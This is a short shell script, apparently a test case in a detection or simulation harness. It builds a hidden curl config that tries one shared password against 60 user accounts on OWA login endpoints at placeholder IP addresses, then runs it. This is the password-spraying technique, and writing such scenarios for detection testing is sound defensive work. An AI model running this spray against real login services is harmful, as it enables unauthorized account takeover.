#!/bin/sh
. /opt/case/case.sh

for n in $(seq 1 60); do
    printf 'url = "http://203.0.113.%d:8080/owa/auth.owa"\nuser = "user%02d@example.com:Winter2026!"\ndata = "flags=4"\noutput = "/dev/null"\nnext\n' $((80 + n % 2)) "$n"
done >/tmp/.spray
echo 'url = "http://203.0.113.80:8080/done"' >>/tmp/.spray
curl -s -K /tmp/.spray | grep -q ok
took_place
